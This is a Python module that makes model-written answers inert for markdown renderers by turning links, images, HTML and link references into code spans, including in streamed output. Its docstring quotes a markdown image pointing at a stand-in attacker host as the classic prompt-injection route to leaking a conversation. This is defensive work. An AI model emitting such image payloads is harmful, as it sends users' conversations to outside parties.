"""Text made inert for whatever renders markdown: chat UIs (`/v1/chat/completions`), and
the assistants that show tool results (`rag.plain_text`, the MCP server).

An answer quotes abstracts, and in LLM mode it is written by a model that read them, so
it may hold what a markdown renderer turns into something active: a link
(`[click](https://...)`, `<https://...>`, a bare URL or e-mail address, which GFM links
by itself), an image that the UI fetches at once (`![x](https://evil.example/?q=...)`:
the classic way to leak a conversation through prompt injection), raw HTML, or a link
reference definition (`[1]: https://...`) that would turn our own `[1]` markers into
links. Each such run is shown as a code span instead: the same characters, so quotes
stay verbatim, and nothing to click or fetch. The record URLs of the Sources list are
ours and stay links.
"""

from __future__ import annotations

import re

_ACTIVE = re.compile(
    r"!?\[[^\]\n]*\]\([^)\n]*\)"  # [label](url), ![alt](url)
    r"|<[^<>\n]*>"  # <https://...>, <img src=...>, <a href=...>
    r"|(?<![`\w])(?:https?://|www\.)[^\s<>`]*[^\s<>`.,;:!?)\]'\"]"  # bare URLs
    r"|(?<![`\w.+-])[\w.+-]+@[\w-]+(?:\.[\w-]+)+",  # e-mail addresses
    re.IGNORECASE,
)
_REFERENCE = re.compile(r"^( {0,3})\[(?=[^\]\n]*\]:)", re.MULTILINE)
HELD_CHARS = 400
"""Longest run held back while a stream may still be inside a link; longer text is
passed on (made inert as it stands)."""


def _code(run: str) -> str:
    fence = "``" if "`" in run else "`"
    pad = " " if "`" in run else ""
    return f"{fence}{pad}{run}{pad}{fence}"


def inert(text: str) -> str:
    """`text` with every link, image, HTML tag and link reference definition shown as
    literal text."""
    return _REFERENCE.sub(r"\1\\[", _ACTIVE.sub(lambda m: _code(m.group(0)), text))


class InertStream:
    """`inert` over a stream of deltas: a run that may still become a link (after an
    unclosed `[` or `<`, or a word not yet ended) is held until it is complete, so a
    URL split across deltas is still caught."""

    def __init__(self) -> None:
        self._pending = ""

    def feed(self, delta: str) -> str:
        text = self._pending + delta
        cut = max(text.rfind(" "), text.rfind("\n")) + 1  # words end at whitespace
        for opener, closer in (("[", ")"), ("<", ">")):
            start = text.rfind(opener, 0, cut)
            if start >= 0 and closer not in text[start:cut] and "\n" not in text[start:cut]:
                cut = start  # "[click here" may become "[click here](url)"
        if len(text) - cut > HELD_CHARS:
            cut = len(text)
        self._pending = text[cut:]
        return inert(text[:cut])

    def flush(self) -> str:
        rest, self._pending = self._pending, ""
        return inert(rest)
